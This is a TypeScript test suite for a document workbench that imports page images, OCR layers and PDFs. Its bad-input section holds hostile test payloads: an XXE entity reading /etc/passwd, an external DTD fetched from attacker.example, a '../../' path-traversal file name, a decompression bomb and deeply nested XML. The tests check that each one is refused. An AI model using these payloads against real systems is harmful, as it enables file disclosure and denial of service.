import { existsSync, readdirSync } from "node:fs";
import { join } from "node:path";
import sharp from "sharp";
import { beforeAll, describe, expect, it } from "vitest";
import { altoFor, MEMO_LINES, multiPageTiff, pageImage, pngBomb } from "../../../test/page-images";
import { useTempDatabase } from "../../../test/temp-db";
import { testUser } from "../../../test/users";

const tempDb = await useTempDatabase();
const { getDb } = await import("../../server/db");
const { importFiles } = await import("../imports/import-documents");
const { listPages } = await import("./list-pages");
const { listPageSizes } = await import("./list-page-sizes");
const { getPageWords } = await import("./get-page-words");
const { renderPageImage, getPageImageInfo } = await import("./render-page-image");
const { createRevision } = await import("../revisions/create-revision");

const boxes = MEMO_LINES.flat().map((w) => w.box);
let authorId: string;
let n = 0;
/** A fresh page image (distinct pixels, so each upload is its own text and image). */
const memo = async (format: "png" | "jpeg" | "webp" | "tiff" = "png") => pageImage({ boxes: [...boxes, [500, 300 + (++n % 90), 5, 5]], format });
const alto = (name: string, extra = "") => altoFor(name, 600, 400, [[...MEMO_LINES[0]!, ...(extra ? [{ text: extra, box: [400, 20, 60, 30] as const }] : [])], MEMO_LINES[1]!]);
const upload = (files: { name: string; bytes: Uint8Array }[], options: Record<string, unknown> = {}) => importFiles(files, { authorId, ...options });

beforeAll(async () => {
  authorId = (await testUser("paige", "reviewer")).id;
});

describe("importing page images with layers", () => {
  it("stores the image once by its hash, the layer's words anchored to the raw text, and the page text", async () => {
    const image = await memo();
    const result = await upload([{ name: "memo-p1.png", bytes: image }, { name: "memo-p1.xml", bytes: alto("memo-p1.png", "a1") }]);
    expect(result.errors).toEqual([]);
    const doc = result.items[0]!;
    expect(doc.title).toBe("memo-p1");
    const row = await getDb().document.findUniqueOrThrow({ where: { id: doc.id }, select: { rawText: true } });
    expect(row.rawText).toBe("Comrade Genserslov a1\nKuzma N. Derevyanko");
    const [page] = await listPages({ documentId: doc.id, origin: "http://x" });
    expect(page).toMatchObject({ index: 0, width: 600, height: 400, words: 6, iiif: `http://x/iiif/${page!.id}`, ocr: { source: "alto", status: "done" } });
    const stored = await getDb().page.findUniqueOrThrow({ where: { id: page!.id }, select: { imageKey: true } });
    expect(existsSync(join(tempDb.dir, "images", "blobs", stored.imageKey.slice(0, 2), stored.imageKey.slice(2, 4), stored.imageKey))).toBe(true);
  });

  it("makes one document of several pages, in file-name order, joined by a page break", async () => {
    const [a, b] = [await memo(), await memo("jpeg")];
    const result = await upload([
      { name: "report.p2.jpg", bytes: b }, { name: "report.p10.xml", bytes: alto("report.p10.png", "p10") },
      { name: "report.p10.png", bytes: a }, { name: "report.p2.xml", bytes: alto("report.p2.jpg", "p2") },
    ], { title: "Report" });
    expect(result.errors).toEqual([]);
    const { rawText } = await getDb().document.findUniqueOrThrow({ where: { id: result.items[0]!.id }, select: { rawText: true } });
    expect(rawText.split("\f").map((p) => p.split(" ")[2]!.split("\n")[0])).toEqual(["p2", "p10"]);
    const pages = await listPages({ documentId: result.items[0]!.id });
    expect(pages.map((p) => p.index)).toEqual([0, 1]);
    // The editor's lighter read answers the same pages and sizes, without the layers.
    expect(await listPageSizes({ documentId: result.items[0]!.id })).toEqual(pages.map(({ id, index, width, height }) => ({ id, index, width, height, status: "not_started" })));
  });

  it("sniffs images by content: a PNG named .jpg is a PNG; WebP works; documents=each splits", async () => {
    const result = await upload([
      { name: "one.jpg", bytes: await memo() }, { name: "one.xml", bytes: alto("one.jpg", "w1") },
      { name: "two.webp", bytes: await memo("webp") }, { name: "two.xml", bytes: alto("two.webp", "w2") },
    ], { split: true });
    expect(result.errors).toEqual([]);
    expect(result.items.map((d) => d.title)).toEqual(["one", "two"]);
    const page = await getDb().page.findFirstOrThrow({ where: { documentId: result.items[0]!.id }, select: { imageType: true } });
    expect(page.imageType).toBe("image/png");
  });
});

describe("word boxes follow revisions", () => {
  it("keeps a corrected word's box, gives an inserted word its line's box, and drops a deleted word", async () => {
    const { items } = await upload([{ name: "rev.png", bytes: await memo() }, { name: "rev.xml", bytes: alto("rev.png", "r1") }]);
    const documentId = items[0]!.id;
    const [page] = await listPages({ documentId });
    const raw = await getPageWords({ documentId, pageId: page!.id });
    expect(raw.words.find((w) => w.text === "Genserslov")).toMatchObject({ origin: "ocr", box: [180, 20, 200, 30], confidence: { value: 0.41, original: 0.41, scale: "unit" } });
    await createRevision({ documentId, baseSeq: 0, authorId, message: "fix", text: "Comrade Generalov\nKuzma N. [Nikolayevich] Derevyanko" });
    const head = await getPageWords({ documentId, pageId: page!.id });
    expect(head.seq).toBe(1);
    const byText = new Map(head.words.map((w) => [w.text, w]));
    expect(byText.get("Generalov")).toMatchObject({ origin: "corrected", box: [180, 20, 200, 30] });
    expect(byText.get("[Nikolayevich]")).toMatchObject({ origin: "inserted", box: [20, 80, 410, 30] });
    expect(byText.get("Derevyanko")).toMatchObject({ origin: "ocr", box: [210, 80, 220, 30] });
    expect(byText.has("r1")).toBe(false);
    // The history keeps every box: revision 0 still has the deleted word.
    expect((await getPageWords({ documentId, pageId: page!.id, seq: 0 })).words.map((w) => w.text)).toContain("r1");
  });
});

describe("exports of a document with pages", () => {
  it("crops each line of the page for the training zip, and writes ALTO with the corrected text on the boxes", async () => {
    const { getExportDocument } = await import("../export/get-export-document");
    const { writeExport } = await import("../../export/formats");
    const { unzipSync, strFromU8 } = await import("fflate");
    const { items } = await upload([{ name: "exp.png", bytes: await memo() }, { name: "exp.xml", bytes: alto("exp.png", "x1") }]);
    const documentId = items[0]!.id;
    await createRevision({ documentId, baseSeq: 0, authorId, message: "fix", text: "Comrade Generalov x1\nKuzma N. Derevyanko" });
    const doc = await getExportDocument({ id: documentId, baseUrl: "http://x", lineImages: true });
    const files = unzipSync(writeExport(doc, "lines") as Uint8Array);
    expect(strFromU8(files["p0001_l0001.gt.txt"]!)).toBe("Comrade Generalov x1\n");
    // The first line's box is 20,20 to 460,50, cropped with a 4 px margin.
    const meta = await sharp(files["p0001_l0001.png"]!).metadata();
    expect([meta.width, meta.height]).toEqual([448, 38]);
    const altoXml = writeExport(doc, "alto");
    expect(altoXml).toMatch(/<String ID="s0_1" HPOS="180" VPOS="20" WIDTH="200" HEIGHT="30" CONTENT="Generalov"\/>/);
  });
});

describe("low OCR confidence as a suggestion reason", () => {
  it("flags a word the layer was unsure of while it reads as the OCR read it, and not once it is corrected", async () => {
    const { getSuggestions } = await import("../suggestions/get-suggestions");
    const xml = altoFor("low.png", 600, 400, [[{ text: "The", box: [20, 20, 60, 30], wc: 0.95 }, { text: "Svetloye", box: [100, 20, 120, 30], wc: 0.31 }, { text: "sailed", box: [240, 20, 100, 30], wc: 0.97 }]]);
    const { items } = await upload([{ name: "low.png", bytes: await memo() }, { name: "low.xml", bytes: xml }]);
    const documentId = items[0]!.id;
    expect((await getSuggestions({ documentId })).items).toEqual([expect.objectContaining({ text: "Svetloye", reason: "low-confidence", confidence: 0.31 })]);
    // The editor's unsaved text is checked the same way: a corrected word is no longer the OCR's.
    expect((await getSuggestions({ documentId, text: "The Svetlaya sailed" })).items).toEqual([]);
  });
});

describe("the IIIF Image API", () => {
  it("gives a proposal's change the region of the page image around the words it changes", async () => {
    const { createProposal } = await import("../proposals/create-proposal");
    const { getProposal } = await import("../proposals/get-proposal");
    const { hunkImages } = await import("../proposals/hunk-images");
    const { items } = await upload([{ name: "hunk.png", bytes: await memo() }, { name: "hunk.xml", bytes: alto("hunk.png", "h1") }]);
    const id = items[0]!.id;
    const { rawText } = await getDb().document.findUniqueOrThrow({ where: { id }, select: { rawText: true } });
    const proposal = await createProposal({ documentId: id, baseSeq: 0, text: rawText.replace("Genserslov", "Generalov"), message: "name", author: { id: authorId, username: "paige", displayName: "paige", role: "reviewer" } });
    const p = await getProposal({ id: proposal.id });
    const images = await hunkImages({ documentId: id, seq: 0, hunks: p.hunks });
    const [page] = await listPages({ documentId: id });
    // "Genserslov" stands at [180, 20, 200, 30]: two line heights each side, half a line above and below.
    expect(images.get(0)).toEqual({ url: `/iiif/${page!.id}/120,5,320,60/max/0/default.jpg`, page: 1 });
    // A document without page images has none.
    const plain = (await getDb().document.create({ data: { collectionId: (await getDb().collection.findFirstOrThrow()).id, title: "plain", metadata: {}, rawText: "a", rawSha256: "x", headText: "a" }, select: { id: true } })).id;
    expect((await hunkImages({ documentId: plain, seq: 0, hunks: [{ index: 0, start: 0, end: 1 }] })).size).toBe(0);
  });

  it("describes the page and makes tiles, cached on disk", async () => {
    const { items } = await upload([{ name: "tile.png", bytes: await memo() }, { name: "tile.xml", bytes: alto("tile.png", "t1") }]);
    const [page] = await listPages({ documentId: items[0]!.id });
    const info = await getPageImageInfo({ pageId: page!.id, base: "http://x/iiif/p" });
    expect(info).toMatchObject({ width: 600, height: 400, profile: "level1" });
    // An arbitrary region is rendered each time, never cached.
    const request = { pageId: page!.id, region: "180,20,200,30", size: "100,", rotation: "0", qualityFormat: "default.png" };
    const first = await renderPageImage(request);
    expect(first.cache).toBe("none");
    const meta = await sharp(first.bytes).metadata();
    expect([meta.format, meta.width, meta.height]).toEqual(["png", 100, 15]);
    // The crop is the dark bar of "Genserslov": nearly black.
    const { channels } = await sharp(first.bytes).stats();
    expect(channels[0]!.mean).toBeLessThan(60);
    expect((await renderPageImage(request)).cache).toBe("none");
    // A tile of the advertised grid is made once.
    const tile = { ...request, region: "0,0,512,400", size: "512,400" };
    expect((await renderPageImage(tile)).cache).toBe("miss");
    expect((await renderPageImage(tile)).cache).toBe("hit");
    await expect(renderPageImage({ ...request, rotation: "90" })).rejects.toMatchObject({ status: 400 });
  });
});

describe("bad input: a clear error naming the file, and nothing stored", () => {
  const countAll = async () => ({ documents: await getDb().document.count(), pages: await getDb().page.count() });

  it.each([
    ["a truncated PNG", async () => (await memo()).subarray(0, 300), "cut.png", /could not be decoded|could not be read/],
    ["a text file renamed .png", async () => new TextEncoder().encode("SECRET\nMEMORANDUM"), "notes.png", /holds text/],
    ["a decompression bomb", async () => pngBomb(), "bomb.png", /2500 megapixels\); the limit is 100/],
  ])("refuses %s", async (_what, bytes, name, message) => {
    const before = await countAll();
    const result = await upload([{ name, bytes: await bytes() }, { name: name.replace(/\.png$/, ".xml"), bytes: alto(name, "x") }]);
    expect(result.items).toEqual([]);
    expect(result.errors).toContainEqual(expect.objectContaining({ file: name, message: expect.stringMatching(message) }));
    expect(await countAll()).toEqual(before);
  });

  it.each([
    ["XXE", `<?xml version="1.0"?><!DOCTYPE alto [<!ENTITY x SYSTEM "file:///etc/passwd">]><alto>&x;</alto>`, /entities/],
    ["an external DTD", `<?xml version="1.0"?><!DOCTYPE alto SYSTEM "http://attacker.example/a.dtd"><alto/>`, /DOCTYPE/],
    ["boxes outside the image", new TextDecoder().decode(altoFor("x.png", 600, 400, [[{ text: "far", box: [5000, 5000, 10, 10] }]])), /outside/],
  ])("refuses a layer with %s, and stores nothing of its document", async (_what, xml, message) => {
    const before = await countAll();
    const result = await upload([{ name: "x.png", bytes: await memo() }, { name: "x.xml", bytes: new TextEncoder().encode(xml) }]);
    expect(result.items).toEqual([]);
    expect(result.errors).toEqual([expect.objectContaining({ file: "x.xml", message: expect.stringMatching(message) })]);
    expect(await countAll()).toEqual(before);
  });

  it("refuses a layer naming an image that was not uploaded; a multi-page TIFF without a layer is queued for OCR page by page", async () => {
    const result = await upload([{ name: "a.png", bytes: await memo() }, { name: "a.xml", bytes: alto("a.png", "a") }, { name: "b.xml", bytes: alto("b.png", "b") }]);
    expect(result.errors).toEqual([expect.objectContaining({ file: "b.xml", code: "layer_unmatched", message: expect.stringContaining("b.png") })]);
    expect(result.items).toEqual([]);
    const tiff = await upload([{ name: "scan.tif", bytes: await multiPageTiff(3) }]);
    expect(tiff.errors).toEqual([]);
    expect(tiff.jobs[0]!.pages.map((p) => [p.index, p.imageName, p.status])).toEqual([[0, "scan.tif", "queued"], [1, "scan.tif", "queued"], [2, "scan.tif", "queued"]]);
    await getDb().ocrJob.update({ where: { id: tiff.jobs[0]!.id }, data: { status: "cancelled" } });
  });

  it("parses layers in a worker: lines nested 5,000 deep and a 1 MB attribute answer 422 naming the limit, and nothing is stored", async () => {
    const hocr = (body: string) => new TextEncoder().encode(`<html xmlns="http://www.w3.org/1999/xhtml"><body><div class="ocr_page" title="bbox 0 0 600 400; image &quot;h.png&quot;">${body}</div></body></html>`);
    const line = '<span class="ocr_line" title="bbox 0 0 50 10">';
    const before = await getDb().document.count();
    const deep = await upload([{ name: "h.png", bytes: await memo() }, { name: "h.hocr", bytes: hocr(`${line.repeat(5_000)}x${"</span>".repeat(5_000)}`) }]);
    expect(deep.errors).toEqual([expect.objectContaining({ file: "h.hocr", code: "xml_limit", status: 422, message: expect.stringContaining("more than 256 deep") })]);
    const wide = await upload([{ name: "h.png", bytes: await memo() }, { name: "h.hocr", bytes: hocr(`<span class="ocr_line" title="bbox 0 0 50 10; x ${"9 ".repeat(500_000)}">x</span>`) }]);
    expect(wide.errors).toEqual([expect.objectContaining({ file: "h.hocr", code: "xml_limit", status: 422, message: expect.stringContaining("65,536 characters") })]);
    expect(await getDb().document.count()).toBe(before);
  });

  it("caps a TIFF's pages from its header (WORKBENCH_MAX_PAGES) and an upload's pixels (WORKBENCH_MAX_UPLOAD_PIXELS), at their edges", async () => {
    const before = { documents: await getDb().document.count(), jobs: await getDb().ocrJob.count() };
    process.env.WORKBENCH_MAX_PAGES = "3";
    try {
      const over = await upload([{ name: "four.tif", bytes: await multiPageTiff(4) }]);
      expect(over.errors).toEqual([expect.objectContaining({ file: "four.tif", code: "image_too_many_pages", status: 413, message: expect.stringContaining("it has 4 pages; the limit is 3") })]);
      expect(over.jobs).toEqual([]);
    } finally {
      delete process.env.WORKBENCH_MAX_PAGES;
    }
    // Three pages of 300 × 200: 180,000 pixels in all.
    const three = await multiPageTiff(3);
    process.env.WORKBENCH_MAX_UPLOAD_PIXELS = String(180_000 - 1);
    try {
      await expect(upload([{ name: "three.tif", bytes: three }])).rejects.toMatchObject({ code: "too_large", message: expect.stringContaining("WORKBENCH_MAX_UPLOAD_PIXELS") });
      expect({ documents: await getDb().document.count(), jobs: await getDb().ocrJob.count() }).toEqual(before);
      process.env.WORKBENCH_MAX_UPLOAD_PIXELS = String(180_000);
      const fits = await upload([{ name: "three.tif", bytes: three }]);
      expect(fits.jobs).toHaveLength(1);
      await getDb().ocrJob.update({ where: { id: fits.jobs[0]!.id }, data: { status: "cancelled" } });
    } finally {
      delete process.env.WORKBENCH_MAX_UPLOAD_PIXELS;
    }
  });

  it("never uses an upload's file name as a path", async () => {
    const result = await upload([{ name: "../../evil.png", bytes: await memo() }, { name: "../../evil.xml", bytes: alto("evil.png", "e") }]);
    expect(result.errors).toEqual([]);
    const imagesDir = join(tempDb.dir, "images");
    expect(readdirSync(tempDb.dir)).not.toContain("evil.png");
    expect(readdirSync(join(imagesDir, "blobs")).every((d) => /^[0-9a-f]{2}$/.test(d))).toBe(true);
  });
});

describe("PDF import", () => {
  it("makes a document from a PDF's text layer, each page rendered to an image with the words on their boxes", async () => {
    const { textPdf } = await import("../../../test/pdfs");
    const result = await upload([{ name: "cable.pdf", bytes: await textPdf([["CABLE NO. 4471", "Comrade Genserslov"], ["Page two of the cable"]]) }]);
    expect(result.errors).toEqual([]);
    const doc = result.items[0]!;
    expect(doc.title).toBe("cable");
    const { rawText } = await getDb().document.findUniqueOrThrow({ where: { id: doc.id }, select: { rawText: true } });
    expect(rawText).toBe("CABLE NO. 4471\nComrade Genserslov\fPage two of the cable");
    const pages = await listPages({ documentId: doc.id });
    expect(pages.map((p) => [p.index, p.width, p.height, p.ocr.source])).toEqual([[0, 1700, 2200, "pdf"], [1, 1700, 2200, "pdf"]]);
    const words = await getPageWords({ documentId: doc.id, pageId: pages[0]!.id });
    expect(words.words.find((w) => w.text === "Genserslov")!.box[0]).toBeGreaterThan(350);
  });

  it("queues a PDF without a text layer for OCR", async () => {
    const { imagePdf } = await import("../../../test/pdfs");
    const png = await pageImage({ boxes: [[20, 20, 100, 20]] });
    const result = await upload([{ name: "scan.pdf", bytes: await imagePdf([png]) }]);
    expect(result.items).toEqual([]);
    expect(result.jobs).toEqual([expect.objectContaining({ title: "scan", pages: [expect.objectContaining({ imageName: "scan.pdf p. 1", status: "queued" })] })]);
    await getDb().ocrJob.update({ where: { id: result.jobs[0]!.id }, data: { status: "cancelled" } });
  });

  it("renders a PDF page of 14,400 pt square at 25 megapixels at most, refuses pages that would render past the upload's pixels before rendering any, and a self-referencing page tree with 422", async () => {
    const { hugePagePdf, selfReferencingPdf } = await import("../../../test/pdfs");
    const { MAX_PDF_PAGE_PIXELS } = await import("../../server/pdf/read-pdf");
    const before = await getDb().document.count();
    const one = await upload([{ name: "poster.pdf", bytes: await hugePagePdf(1) }]);
    expect(one.errors).toEqual([]);
    // A blank page has no text layer: it waits for OCR, with its rendered size.
    const job = await getDb().ocrJob.update({ where: { id: one.jobs[0]!.id }, data: { status: "cancelled" }, select: { pages: true } });
    const [poster] = job.pages as unknown as { width: number; height: number }[];
    expect(poster!.width * poster!.height).toBeLessThanOrEqual(MAX_PDF_PAGE_PIXELS);
    expect(poster!.width).toBeGreaterThan(4_900);
    process.env.WORKBENCH_MAX_UPLOAD_PIXELS = String(3 * MAX_PDF_PAGE_PIXELS);
    try {
      const four = await upload([{ name: "posters.pdf", bytes: await hugePagePdf(4) }]);
      expect(four.errors).toEqual([expect.objectContaining({ file: "posters.pdf", code: "pdf_too_large", status: 413, message: expect.stringContaining("100 megapixels") })]);
    } finally {
      delete process.env.WORKBENCH_MAX_UPLOAD_PIXELS;
    }
    const loop = await upload([{ name: "loop.pdf", bytes: selfReferencingPdf() }]);
    expect(loop.errors).toEqual([expect.objectContaining({ file: "loop.pdf", status: 422, code: "pdf_unreadable", message: expect.stringContaining("circular") })]);
    expect(await getDb().document.count()).toBe(before);
  });

  it("refuses an encrypted PDF and one over the page limit, naming the file, and stores nothing", async () => {
    const { blankPdf, encryptedPdf } = await import("../../../test/pdfs");
    const before = await countAllDocs();
    const result = await upload([{ name: "locked.pdf", bytes: encryptedPdf() }, { name: "huge.pdf", bytes: await blankPdf(2000) }]);
    expect(result.errors).toEqual([
      expect.objectContaining({ file: "locked.pdf", code: "pdf_encrypted", message: expect.stringContaining("locked.pdf: it is encrypted") }),
      expect.objectContaining({ file: "huge.pdf", code: "pdf_too_many_pages", status: 413, message: expect.stringContaining("2000 pages; the limit is 500") }),
    ]);
    expect(await countAllDocs()).toEqual(before);
  });
});

async function countAllDocs() {
  return { documents: await getDb().document.count(), pages: await getDb().page.count(), jobs: await getDb().ocrJob.count() };
}
